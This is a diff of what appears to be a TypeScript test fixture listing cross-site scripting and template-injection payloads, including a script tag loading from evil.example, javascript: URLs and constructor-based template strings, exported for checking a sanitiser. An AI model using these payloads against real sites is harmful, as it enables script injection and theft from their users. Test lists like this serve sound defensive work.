@@ -1,8 +1,8 @@
 const script = 'pwned()';
 
-/** Ways into a page by a text field, by what they rely on. */
+/** Attacks through a text field, grouped by their mechanism. */
 const families: string[][] = [
-  // Elements that run or load something.
+  // Elements that run or load code.
   [
     `<script>${script}</script>`,
     `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
@@ -25,7 +25,7 @@ const families: string[][] = [
     `<applet code="x"></applet>`,
     `<frameset onload="${script}"></frameset>`,
   ],
-  // Handlers.
+  // Event handlers.
   [
     'img src=x',
     'svg',
@@ -113,7 +113,7 @@ const families: string[][] = [
     `<svg><animate attributeName=href values=javascript:${script} /></svg>`,
     `<math href="javascript:${script}">x</math>`,
   ],
-  // What another language would read.
+  // Syntax of other languages.
   [
     '{{constructor.constructor("pwned()")()}}',
     '${pwned()}',
@@ -126,5 +126,5 @@ const families: string[][] = [
   ],
 ];
 
-/** Texts that would run `pwned()` or leave the site where they are not made harmless. */
+/** Texts that would run `pwned()` or leave the site if they were not sanitised. */
 export const hostileTexts = families.flat();
